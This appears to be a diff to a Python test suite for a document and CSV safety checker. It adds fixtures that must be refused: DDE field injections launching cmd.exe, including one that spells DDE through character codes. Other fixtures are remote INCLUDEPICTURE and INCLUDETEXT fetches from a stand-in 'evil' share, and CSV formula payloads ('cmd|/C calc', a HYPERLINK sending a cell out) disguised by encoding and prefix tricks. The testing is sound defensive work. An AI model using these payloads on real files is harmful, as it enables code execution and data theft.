@@ -27,6 +27,12 @@ def _field(*texts):
     return docx(body=f"<w:p>{begin}{runs}{end}</w:p>")
 
 
+def _nested(inner, rest):
+    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    text = "<w:r><w:instrText>{}</w:instrText></w:r>"
+    return docx(body=f"<w:p>{begin}{begin}{text.format(inner)}{end}{text.format(rest)}{end}</w:p>")
+
+
 def _sheet(formula):
     return package(
         {
@@ -74,6 +80,13 @@ HIDDEN = {
     "DDE split into runs": (_field("D", "DE", "AUTO c:\\cmd.exe"), "program"),
     "DDE by references": (_field("&#68;DE c:\\cmd.exe"), "program"),
     "DDE in a simple field": (docx(body='<w:fldSimple w:instr=" DDE c:\\x y"/>'), "program"),
+    "DDE by the codes of its letters": (_nested("QUOTE 68 68 69", " c:\\x y"), "program"),
+    "a picture taken in by a field": (
+        _field("INCLUDE", "PICTURE ", "&quot;https://e/p.png&quot; \\d"), "remote",
+    ),
+    "a text of a share taken in": (
+        docx(body=r'<w:fldSimple w:instr=" INCLUDETEXT \\\\evil\\a.docx"/>'), "remote",
+    ),
     "a late DOCTYPE": (
         docx("x", **{"word/a.xml": "<!--" + "x" * 9000 + "--><!DOCTYPE a []><a/>"}), "entities",
     ),
@@ -99,6 +112,11 @@ CSVS = {
     "a link that sends a cell": b'a,b\n"=HYPERLINK(""http://e/?x=""&A1,""click"")",1\n',
     "the same between semicolons": b'a;b\n=HYPERLINK("http://e/?x="&A1,"click");1\n',
     "something fetched": b'a,b\n"=IMPORTXML(""http://e"",""//a"")",1\n',
+    "in UTF-16": "a,b\n=cmd|'/C calc'!A0,1\n".encode("utf-16"),
+    "between tabs": b"a\tb\n=cmd|'/C calc'!A0\t1\n",
+    "after a plus": b"a,b\n+cmd|'/C calc'!A0,1\n",
+    "after an at": b"a,b\n@cmd|'/C calc'!A0,1\n",
+    "with a wide sign": "a,b\n\uff1dcmd|'/C calc'!A0,1\n".encode(),
     "after blanks": b"a,b\n  =cmd|'/C calc'!A0,1\n",
 }
 
@@ -121,6 +139,8 @@ def test_what_acts_is_refused_however_it_is_spelled(name, content, code, take):
     [
         ("link.docx", _linked("hyperlink")),
         ("field.docx", _field(" PAGE ", " \\* MERGEFORMAT ")),
+        ("own.docx", _field(' INCLUDEPICTURE "media/a.png" \\\\d ')),
+        ("quote.docx", _nested("QUOTE 65 66", " PAGE ")),
         ("address.docx", _field(' HYPERLINK "https://example.org" ')),
         ("sums.xlsx", _sheet("SUM(A1:A9)&amp;IF(B1=1,&quot;a|b!&quot;,2)")),
         ("cells.xlsx", _sheet("HYPERLINK(B2,&quot;see&quot;)")),
